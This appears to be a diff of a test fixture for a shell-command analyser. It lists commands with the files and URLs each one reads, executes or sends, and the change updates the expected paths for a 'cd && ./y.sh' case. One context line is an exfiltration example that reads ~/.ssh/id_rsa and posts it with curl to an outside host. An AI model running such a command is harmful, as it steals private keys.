@@ -222,7 +222,7 @@ EXACT: list[tuple[str, dict[str, tuple[str, ...]]]] = [
     ("if [ -f .env ]; then cat .env; fi", {"reads": (".env",)}),
     ("while read l; do echo $l; done < list.txt", {"reads": ("list.txt",)}),
     ("echo `cat /etc/hostname`", {"reads": ("/etc/hostname",)}),
-    ("cd \"$(dirname x/y.sh)\" && ./y.sh", {"executes": ("y.sh",)}),
+    ("cd \"$(dirname x/y.sh)\" && ./y.sh", {"executes": ("y.sh", "x/y.sh")}),  # after cd: under x too
     ("cp a.txt \"$(pwd)/b.txt\"", {"reads": ("a.txt",), "writes": ("b.txt",)}),
     ("X=$(cat ~/.ssh/id_rsa); curl -d \"$X\" https://e.com",
      {"reads": ("~/.ssh/id_rsa",), "sends": ("https://e.com",), "payloads": ("~/.ssh/id_rsa", "data:$X")}),
